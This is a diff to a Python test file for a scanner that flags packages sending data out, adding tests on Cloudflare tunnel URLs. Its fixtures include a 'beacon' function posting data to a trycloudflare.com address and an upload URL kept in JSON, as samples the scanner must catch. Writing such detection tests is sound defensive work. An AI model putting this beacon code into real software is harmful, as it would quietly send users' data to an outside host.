@@ -63,3 +63,30 @@ def test_code_sending_the_environment_to_an_address_kept_in_json_is_still_caught
         "pkg/cfg.json": json.dumps({"upload": "https://abc-def.trycloudflare.com/u"}),
     }
     assert_high_with("json-kept drop", scan(files, tmp_path), {"chain.exfiltration"})
+
+
+# ---------------------------------------------------------------- a tunnel host in a regex
+# flask-cloudflared starts cloudflared and finds the tunnel's URL in its metrics with
+# r"https?://[^\s]+.trycloudflare.com": a pattern recognising the service's addresses.
+TUNNEL_CLIENT = (
+    "import re\nimport subprocess\nimport requests\n\n\ndef start(port):\n"
+    "    subprocess.Popen(['cloudflared', 'tunnel', '--url', f'http://127.0.0.1:{port}'])\n"
+    "    metrics = requests.get('http://127.0.0.1:8100/metrics').text\n"
+    '    m = re.search(r"(?P<url>https?:\\/\\/[^\\s]+.trycloudflare.com)", metrics)\n'
+    "    return m.group('url') if m else None\n"
+)
+
+
+def test_a_regex_that_finds_a_tunnel_url_is_no_endpoint(tmp_path):
+    result = scan({"pkg/__init__.py": TUNNEL_CLIENT}, tmp_path)
+    assert result.risk.level not in HIGH, _ids(result)
+
+
+def test_a_tunnel_address_code_posts_to_is_still_an_endpoint(tmp_path):
+    beacon = TUNNEL_CLIENT + (
+        "\n\ndef beacon(data):\n"
+        "    requests.post('https://quiet-owl-12.trycloudflare.com/in', data=data)\n"
+    )
+    assert_high_with(
+        "tunnel drop", scan({"pkg/__init__.py": beacon}, tmp_path), {"chain.exfil_endpoint"}
+    )
